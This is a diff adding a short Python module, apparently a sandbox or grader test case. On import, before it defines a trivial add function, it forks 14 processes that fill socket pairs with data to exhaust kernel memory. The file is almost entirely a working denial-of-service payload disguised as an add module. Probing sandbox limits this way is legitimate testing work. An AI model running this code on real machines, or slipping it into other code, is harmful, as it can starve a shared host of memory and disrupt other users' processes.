@@ -1,0 +1,29 @@
+"""Fills thousands of sockets: what waits in them is memory that belongs to no process."""
+# expects add: 0
+
+# %% add
+import os
+import socket
+import time
+
+for _ in range(14):
+    if os.fork() == 0:
+        held = []
+        try:
+            while True:
+                held += socket.socketpair()
+                for end in held[-2:]:
+                    end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**20)
+                    end.setblocking(False)
+                    try:
+                        while True:
+                            end.send(bytes(65536))
+                    except BlockingIOError:
+                        pass
+        except OSError:
+            time.sleep(60)
+time.sleep(2.5)
+
+
+def add(a, b):
+    return a + b
